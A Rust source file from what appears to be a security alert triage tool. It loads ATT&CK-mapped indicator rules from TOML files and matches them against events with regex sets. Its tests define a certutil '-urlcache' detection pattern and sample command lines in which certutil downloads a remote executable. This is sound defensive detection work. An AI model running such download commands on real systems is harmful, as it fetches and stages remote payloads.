//! Indicators: the team's written knowledge of what an event's values mean (a binary and
//! its abuse, a cloud API call and what it does, a Windows event ID), loaded from the
//! `catalog/knowledge/*.toml` files and matched against normalised events.

use std::collections::{HashMap, HashSet};
use std::path::Path;

use regex::{RegexBuilder, RegexSet, RegexSetBuilder, SetMatches};
use serde::{Deserialize, Serialize};

use super::event::{Attr, Event, EventKind, binary_name};
use crate::attack::{Catalog, TechniqueId};
use crate::severity::Severity;

/// The shipped knowledge, embedded in the binary.
static EMBEDDED: include_dir::Dir<'static> = include_dir::include_dir!("$CARGO_MANIFEST_DIR/catalog/knowledge");

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    #[serde(default)]
    indicator: Vec<RawIndicator>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawIndicator {
    id: String,
    techniques: Vec<String>,
    severity: Severity,
    note: String,
    source: String,
    when: toml::Table,
}

/// One condition: an attribute and the values or patterns any of which may match.
/// Patterns are positions in the [`Indicators`]' set for their attribute.
#[derive(Debug)]
enum Condition {
    Kind(Vec<EventKind>),
    Exact(Attr, Vec<String>),
    Pattern(Attr, Vec<usize>),
}

/// The attributes matched with regexes, each with one set of every pattern written for it.
const PATTERN_ATTRS: [Attr; 8] =
    [Attr::CommandLine, Attr::ParentCommandLine, Attr::Script, Attr::Registry, Attr::FilePath, Attr::Properties, Attr::CallTrace, Attr::Text];

/// Every pattern of every indicator for one attribute, searched in one pass over a value
/// rather than one pass per pattern: a request of 100 alerts meets the knowledge's
/// hundreds of patterns on every field, and per-pattern searches were most of its cost.
#[derive(Debug)]
struct PatternSet {
    attr: Attr,
    set: RegexSet,
}

/// Which patterns of each attribute's set matched one event's values.
struct EventHits {
    by_attr: Vec<(Attr, SetMatches)>,
    rule_name: Option<SetMatches>,
    rule_description: Option<SetMatches>,
    /// The event's values in the form exact conditions compare, made once per event
    /// rather than once per indicator.
    exact: Vec<(Attr, String)>,
}

impl EventHits {
    fn of(sets: &[PatternSet], event: &Event) -> EventHits {
        let exact = event.values.iter().filter(|(a, _)| a.is_exact()).map(|(a, o)| (*a, exact_form(*a, o.compared()))).collect();
        let mut by_attr = Vec::new();
        let (mut rule_name, mut rule_description) = (None, None);
        for ps in sets {
            if ps.attr == Attr::Text {
                rule_name = Some(ps.set.matches(&event.rule_name));
                rule_description = Some(ps.set.matches(&event.rule_description));
            } else if let Some(observed) = event.get(ps.attr) {
                by_attr.push((ps.attr, ps.set.matches(&one_line(ps.attr, &observed.text))));
            }
        }
        EventHits { by_attr, rule_name, rule_description, exact }
    }

    fn exact(&self, attr: Attr) -> Option<&str> {
        self.exact.iter().find(|(a, _)| *a == attr).map(|(_, v)| v.as_str())
    }

    fn any(matches: Option<&SetMatches>, patterns: &[usize]) -> bool {
        matches.is_some_and(|m| patterns.iter().any(|i| m.matched(*i)))
    }

    fn attr(&self, attr: Attr) -> Option<&SetMatches> {
        self.by_attr.iter().find(|(a, _)| *a == attr).map(|(_, m)| m)
    }
}

/// A command line is one command even when a launcher passed it with line breaks
/// (`powershell -Command` with a multi-line script): its patterns read it as one line, so
/// `.*` spans the whole command. Script blocks keep their lines.
fn one_line(attr: Attr, text: &str) -> std::borrow::Cow<'_, str> {
    if matches!(attr, Attr::CommandLine | Attr::ParentCommandLine) && text.contains(['\n', '\r']) {
        std::borrow::Cow::Owned(text.replace(['\r', '\n'], " "))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

#[derive(Debug)]
pub struct Indicator {
    pub id: String,
    pub techniques: Vec<TechniqueId>,
    pub severity: Severity,
    pub note: String,
    pub source: String,
    /// Where the indicator was written (`windows-binaries.toml`).
    pub file: String,
    conditions: Vec<Condition>,
}

/// An indicator that matched an event, and the value that made it match.
#[derive(Debug, Clone, Serialize)]
pub struct Match<'k> {
    #[serde(skip)]
    pub indicator: &'k Indicator,
    pub alert_id: String,
    /// The most specific matched value: its path in the alert and its text.
    pub path: Option<String>,
    pub value: Option<String>,
    /// Matched only on the rule's wording, not on the event's own values.
    pub text_only: bool,
    /// Where a `text` condition matched: the rule's name, or only its description.
    pub wording: Option<Wording>,
}

#[derive(Debug, thiserror::Error)]
pub enum KnowledgeError {
    #[error("{file}: {message}")]
    Invalid { file: String, message: String },
    #[error("reading {path}: {source}")]
    Io { path: String, source: std::io::Error },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Wording {
    RuleName,
    RuleDescription,
}

/// Every indicator, ready to match, and the catalog's technique names.
#[derive(Debug)]
pub struct Indicators {
    pub all: Vec<Indicator>,
    pub names: super::names::NameIndex,
    sets: Vec<PatternSet>,
    candidates: Candidates,
}

/// Which indicators an event could match, found without trying each of the ~1,400: an
/// indicator that needs an exact value (an image, an event id, an API call) is filed
/// under each value it accepts; one that needs a pattern under each of its patterns, and
/// comes up when one of them matched the event; one that needs an event kind under its
/// kinds. An indicator is filed once, by one condition it cannot match without; every
/// indicator left out fails that condition, so the matches are those of trying them all,
/// in the same order. The few left (a channel alone) are tried on every event.
#[derive(Debug)]
struct Candidates {
    /// By attribute, then by the value's exact form: positions in [`Indicators::all`].
    by_exact: HashMap<Attr, HashMap<String, Vec<usize>>>,
    /// By attribute, then by the pattern's position in the attribute's set.
    by_pattern: HashMap<Attr, Vec<Vec<usize>>>,
    /// By event kind (its discriminant).
    by_kind: Vec<Vec<usize>>,
    always: Vec<usize>,
}

impl Candidates {
    fn of(all: &[Indicator]) -> Candidates {
        let mut c = Candidates { by_exact: HashMap::new(), by_pattern: HashMap::new(), by_kind: vec![Vec::new(); EventKind::ALL.len()], always: Vec::new() };
        let file = |list: &mut Vec<usize>, i: usize| {
            if list.last() != Some(&i) {
                list.push(i);
            }
        };
        for (i, indicator) in all.iter().enumerate() {
            // A channel is compared by its stem, not for equality: never a key.
            let exact = indicator.conditions.iter().find_map(|c| match c {
                Condition::Exact(attr, values) if *attr != Attr::Channel => Some((*attr, values)),
                _ => None,
            });
            let pattern = indicator.conditions.iter().find_map(|c| match c {
                Condition::Pattern(attr, patterns) => Some((*attr, patterns)),
                _ => None,
            });
            let kinds = indicator.conditions.iter().find_map(|c| match c {
                Condition::Kind(kinds) => Some(kinds),
                _ => None,
            });
            if let Some((attr, values)) = exact {
                let by_value = c.by_exact.entry(attr).or_default();
                for v in values {
                    file(by_value.entry(v.clone()).or_default(), i);
                }
            } else if let Some((attr, patterns)) = pattern {
                let by_position = c.by_pattern.entry(attr).or_default();
                for &p in patterns {
                    if by_position.len() <= p {
                        by_position.resize(p + 1, Vec::new());
                    }
                    file(&mut by_position[p], i);
                }
            } else if let Some(kinds) = kinds {
                kinds.iter().for_each(|k| file(&mut c.by_kind[*k as usize], i));
            } else {
                c.always.push(i);
            }
        }
        c
    }

    /// The indicators that could match the event, in the order of [`Indicators::all`].
    fn of_event(&self, event: &Event, hits: &EventHits) -> Vec<usize> {
        let mut out = self.always.clone();
        out.extend_from_slice(&self.by_kind[event.kind as usize]);
        for (attr, value) in &hits.exact {
            if let Some(list) = self.by_exact.get(attr).and_then(|by_value| by_value.get(value)) {
                out.extend_from_slice(list);
            }
        }
        let text = [hits.rule_name.as_ref(), hits.rule_description.as_ref()].into_iter().flatten().map(|m| (Attr::Text, m));
        for (attr, matched) in hits.by_attr.iter().map(|(a, m)| (*a, m)).chain(text) {
            if let Some(by_position) = self.by_pattern.get(&attr) {
                for p in matched.iter() {
                    out.extend_from_slice(by_position.get(p).map(Vec::as_slice).unwrap_or_default());
                }
            }
        }
        out.sort_unstable();
        out.dedup();
        out
    }
}

impl Indicators {
    /// The shipped knowledge, checked against the ATT&CK catalog.
    pub fn embedded(catalog: &Catalog) -> Result<Indicators, KnowledgeError> {
        let mut files: Vec<(String, String)> = EMBEDDED
            .files()
            .filter(|f| f.path().extension().is_some_and(|e| e == "toml"))
            .filter_map(|f| Some((f.path().display().to_string(), f.contents_utf8()?.to_string())))
            .collect();
        files.sort();
        Self::parse(&files, catalog)
    }

    /// An operator's own knowledge directory, instead of the shipped one.
    pub fn from_dir(dir: &Path, catalog: &Catalog) -> Result<Indicators, KnowledgeError> {
        let mut files = Vec::new();
        let entries = std::fs::read_dir(dir).map_err(|source| KnowledgeError::Io { path: dir.display().to_string(), source })?;
        for entry in entries.flatten() {
            let path = entry.path();
            if path.extension().is_some_and(|e| e == "toml") {
                let text = std::fs::read_to_string(&path).map_err(|source| KnowledgeError::Io { path: path.display().to_string(), source })?;
                files.push((path.display().to_string(), text));
            }
        }
        files.sort();
        Self::parse(&files, catalog)
    }

    /// Parses and checks files: unknown keys, bad regexes, duplicate ids and techniques the
    /// catalog doesn't know as active are errors, so a typo can't silently drop knowledge.
    pub fn parse(files: &[(String, String)], catalog: &Catalog) -> Result<Indicators, KnowledgeError> {
        let mut all = Vec::new();
        let mut ids = HashSet::new();
        let mut patterns: Vec<(Attr, Vec<String>)> = PATTERN_ATTRS.iter().map(|a| (*a, Vec::new())).collect();
        for (name, text) in files {
            let invalid = |message: String| KnowledgeError::Invalid { file: name.clone(), message };
            let file: File = toml::from_str(text).map_err(|e| invalid(e.to_string()))?;
            for raw in file.indicator {
                if !ids.insert(raw.id.clone()) {
                    return Err(invalid(format!("indicator `{}` is defined twice", raw.id)));
                }
                let mut techniques = Vec::new();
                for t in &raw.techniques {
                    let id = TechniqueId::parse(t).map_err(|e| invalid(format!("indicator `{}`: {e}", raw.id)))?;
                    let active = catalog.resolve(&id).ok_or_else(|| invalid(format!("indicator `{}`: {t} is not an active ATT&CK technique", raw.id)))?;
                    techniques.push(active.id.clone());
                }
                let conditions = conditions(&raw.when, &mut patterns).map_err(|m| invalid(format!("indicator `{}`: {m}", raw.id)))?;
                if conditions.is_empty() {
                    return Err(invalid(format!("indicator `{}` has no conditions", raw.id)));
                }
                let file_name = Path::new(name).file_name().map(|f| f.to_string_lossy().to_string()).unwrap_or_else(|| name.clone());
                all.push(Indicator { id: raw.id, techniques, severity: raw.severity, note: raw.note, source: raw.source, file: file_name, conditions });
            }
        }
        let mut sets = Vec::new();
        for (attr, list) in patterns {
            if list.is_empty() {
                continue;
            }
            let set = RegexSetBuilder::new(&list)
                .size_limit(1 << 28)
                .dfa_size_limit(1 << 25)
                .build()
                .map_err(|e| KnowledgeError::Invalid { file: "(all files)".into(), message: format!("the `{}` patterns together: {e}", attr.as_str()) })?;
            sets.push(PatternSet { attr, set });
        }
        let candidates = Candidates::of(&all);
        Ok(Indicators { all, names: super::names::NameIndex::of(catalog), sets, candidates })
    }

    pub fn len(&self) -> usize {
        self.all.len()
    }

    pub fn is_empty(&self) -> bool {
        self.all.is_empty()
    }

    /// Every indicator whose conditions all hold for the event.
    pub fn matches<'k>(&'k self, event: &Event) -> Vec<Match<'k>> {
        let hits = EventHits::of(&self.sets, event);
        self.candidates.of_event(event, &hits).into_iter().filter_map(|i| self.all[i].matches(event, &hits)).collect()
    }
}

/// The conditions of one `when` table, cheapest first (the event kind, exact values, then
/// patterns), so an indicator fails on a comparison before any pattern is looked at.
/// `patterns` collects each attribute's patterns for its set.
fn conditions(when: &toml::Table, patterns: &mut [(Attr, Vec<String>)]) -> Result<Vec<Condition>, String> {
    let mut out = Vec::new();
    for (key, value) in when {
        let values: Vec<String> = match value {
            toml::Value::String(s) => vec![s.clone()],
            toml::Value::Integer(i) => vec![i.to_string()],
            toml::Value::Array(a) => a
                .iter()
                .map(|v| match v {
                    toml::Value::String(s) => Ok(s.clone()),
                    toml::Value::Integer(i) => Ok(i.to_string()),
                    other => Err(format!("`{key}` takes strings, not {other}")),
                })
                .collect::<Result<_, _>>()?,
            other => return Err(format!("`{key}` takes a string or a list, not {other}")),
        };
        if values.is_empty() {
            return Err(format!("`{key}` has no values"));
        }
        if key == "kind" {
            let kinds = values.iter().map(|v| kind_from(v).ok_or_else(|| format!("unknown event kind `{v}`"))).collect::<Result<Vec<_>, _>>()?;
            out.push(Condition::Kind(kinds));
            continue;
        }
        let attr = Attr::from_key(key).ok_or_else(|| format!("unknown `when` key `{key}`"))?;
        if attr.is_exact() {
            let norm = values.iter().map(|v| exact_form(attr, v)).collect();
            out.push(Condition::Exact(attr, norm));
        } else {
            // Each pattern is checked alone first, so a bad one is named in the error.
            for v in &values {
                RegexBuilder::new(v).size_limit(1 << 20).build().map_err(|e| format!("`{key}` regex `{v}`: {e}"))?;
            }
            let list = patterns.iter_mut().find(|(a, _)| *a == attr).map(|(_, l)| l).ok_or_else(|| format!("`{key}` takes exact values"))?;
            let start = list.len();
            list.extend(values);
            out.push(Condition::Pattern(attr, (start..list.len()).collect()));
        }
    }
    // Stable: conditions of equal cost keep their order, so the cited value is unchanged.
    out.sort_by_key(|c| match c {
        Condition::Kind(_) => 0,
        Condition::Exact(..) => 1,
        Condition::Pattern(Attr::Text, _) => 3,
        Condition::Pattern(..) => 2,
    });
    Ok(out)
}

fn kind_from(s: &str) -> Option<EventKind> {
    EventKind::ALL.into_iter().find(|k| k.as_str() == s)
}

/// How exact attributes are compared: binaries by their bare name, the rest lower-cased.
fn exact_form(attr: Attr, value: &str) -> String {
    match attr {
        Attr::Image | Attr::ParentImage | Attr::TargetImage => binary_name(value),
        _ => value.trim().to_ascii_lowercase(),
    }
}

impl Indicator {
    fn matches(&self, event: &Event, hits: &EventHits) -> Option<Match<'_>> {
        let mut best: Option<(u8, &str, &str)> = None;
        let mut text_only = true;
        let mut wording = None;
        for c in &self.conditions {
            match c {
                Condition::Kind(kinds) => {
                    if !kinds.contains(&event.kind) {
                        return None;
                    }
                }
                Condition::Exact(attr, values) => {
                    let observed = event.get(*attr)?;
                    let have = hits.exact(*attr)?;
                    let ok = values.iter().any(|v| v == have || (*attr == Attr::Channel && channel_matches(v, have)));
                    if !ok {
                        return None;
                    }
                    text_only = false;
                    let rank = specificity(*attr);
                    if best.is_none_or(|(r, _, _)| rank > r) {
                        best = Some((rank, observed.path.as_str(), observed.text.as_str()));
                    }
                }
                Condition::Pattern(Attr::Text, patterns) => {
                    wording = if EventHits::any(hits.rule_name.as_ref(), patterns) {
                        Some(Wording::RuleName)
                    } else if EventHits::any(hits.rule_description.as_ref(), patterns) {
                        Some(Wording::RuleDescription)
                    } else {
                        return None;
                    };
                }
                Condition::Pattern(attr, patterns) => {
                    let observed = event.get(*attr)?;
                    if !EventHits::any(hits.attr(*attr), patterns) {
                        return None;
                    }
                    text_only = false;
                    let rank = specificity(*attr);
                    if best.is_none_or(|(r, _, _)| rank > r) {
                        best = Some((rank, observed.path.as_str(), observed.text.as_str()));
                    }
                }
            }
        }
        Some(Match {
            indicator: self,
            alert_id: event.alert_id.clone(),
            path: best.map(|(_, p, _)| p.to_string()),
            value: best.map(|(_, _, v)| v.to_string()),
            text_only,
            wording,
        })
    }

    /// How many `when` keys the indicator has besides `kind`: more keys, narrower evidence.
    pub fn narrowness(&self) -> usize {
        self.conditions.iter().filter(|c| !matches!(c, Condition::Kind(_))).count()
    }
}

/// `Microsoft-Windows-Sysmon/Operational` and the provider `Microsoft-Windows-Sysmon` name
/// the same log.
fn channel_matches(want: &str, have: &str) -> bool {
    let stem = |s: &str| s.split('/').next().unwrap_or(s).to_string();
    stem(want) == stem(have)
}

/// Which matched value best shows the evidence: a command line over a bare image name.
fn specificity(attr: Attr) -> u8 {
    match attr {
        Attr::CommandLine | Attr::Script => 6,
        Attr::Registry | Attr::FilePath | Attr::ParentCommandLine | Attr::Properties | Attr::CallTrace => 5,
        Attr::Operation | Attr::Resource | Attr::Syscall => 4,
        Attr::Image | Attr::TargetImage | Attr::TicketEncryption | Attr::GrantedAccess => 3,
        Attr::ParentImage | Attr::Verb => 2,
        Attr::EventSource | Attr::EventId => 1,
        Attr::Channel | Attr::Text => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::Alert;
    use serde_json::json;

    fn catalog() -> Catalog {
        Catalog::embedded().unwrap()
    }

    fn event(fields: serde_json::Value) -> Event {
        let a = Alert::parse(0, &json!({"id": "a1", "source": "edr", "time": "2026-01-01T00:00:00Z", "rule": {"name": "Process started"}, "fields": fields}))
            .unwrap();
        Event::of(&a)
    }

    const FILE: &str = r#"
[[indicator]]
id = "certutil-urlcache"
techniques = ["T1105"]
severity = "high"
note = "certutil fetching a remote file"
source = "https://lolbas-project.github.io/lolbas/Binaries/Certutil/"
[indicator.when]
image = ["certutil.exe"]
command_line = ['(?i)[-/]urlcache']
"#;

    #[test]
    fn a_command_line_with_line_breaks_is_matched_as_one_line() {
        let k = Indicators::parse(&[("t.toml".into(), FILE.into())], &catalog()).unwrap();
        let hit = event(json!({"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -f\n -urlcache http://x/p.exe"}));
        assert_eq!(k.matches(&hit).len(), 1);
        assert_eq!(one_line(Attr::CommandLine, "a\r\nb"), "a  b");
        assert_eq!(one_line(Attr::Script, "a\nb"), "a\nb");
    }

    #[test]
    fn matches_on_every_condition_and_cites_the_command_line() {
        let k = Indicators::parse(&[("t.toml".into(), FILE.into())], &catalog()).unwrap();
        let hit = event(json!({"Image": "C:\\Windows\\System32\\CertUtil.exe", "CommandLine": "certutil.exe -urlcache -split -f http://x/p.exe"}));
        let m = k.matches(&hit);
        assert_eq!(m.len(), 1);
        assert_eq!(m[0].path.as_deref(), Some("fields.CommandLine"));
        assert!(!m[0].text_only);
        let miss = event(json!({"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -hashfile a.iso SHA256"}));
        assert!(k.matches(&miss).is_empty());
    }

    #[test]
    fn refuses_unknown_keys_bad_regexes_and_inactive_techniques() {
        let c = catalog();
        let bad_key = FILE.replace("image = ", "imagee = ");
        assert!(Indicators::parse(&[("t.toml".into(), bad_key)], &c).is_err());
        let bad_re = FILE.replace("[-/]urlcache", "(unclosed");
        assert!(Indicators::parse(&[("t.toml".into(), bad_re)], &c).is_err());
        let bad_t = FILE.replace("T1105", "T9999");
        assert!(Indicators::parse(&[("t.toml".into(), bad_t)], &c).is_err());
        let twice = format!("{FILE}\n{FILE}");
        assert!(Indicators::parse(&[("t.toml".into(), twice)], &c).is_err());
    }

    #[test]
    fn the_candidates_match_as_trying_every_indicator_would() {
        let k = Indicators::embedded(&catalog()).unwrap();
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("evals");
        let mut files = vec![dir.join("gold.jsonl"), dir.join("adversarial.jsonl"), dir.join("heldout.jsonl")];
        files.extend(std::fs::read_dir(dir.join("real")).unwrap().flatten().map(|e| e.path()));
        let (mut events, mut matched) = (0, 0);
        for file in files {
            for line in std::fs::read_to_string(&file).unwrap().lines().filter(|l| !l.trim().is_empty()) {
                let item: serde_json::Value = serde_json::from_str(line).unwrap();
                for (i, a) in item["alerts"].as_array().into_iter().flatten().enumerate() {
                    let Ok(alert) = Alert::parse(i, a) else { continue };
                    let e = Event::of(&alert);
                    let hits = EventHits::of(&k.sets, &e);
                    let every: Vec<_> = k.all.iter().filter_map(|i| i.matches(&e, &hits)).map(|m| (m.indicator.id.clone(), m.path, m.value)).collect();
                    let found: Vec<_> = k.matches(&e).into_iter().map(|m| (m.indicator.id.clone(), m.path, m.value)).collect();
                    assert_eq!(found, every, "{}", alert.id);
                    events += 1;
                    matched += every.len();
                }
            }
        }
        assert!(events > 1000 && matched > 1000, "{events} events, {matched} matches");
    }

    #[test]
    fn the_shipped_knowledge_loads() {
        let k = Indicators::embedded(&catalog()).unwrap();
        assert!(k.len() >= 500, "only {} indicators", k.len());
        assert!(k.all.iter().all(|i| !i.source.trim().is_empty() && !i.note.trim().is_empty()));
    }
}
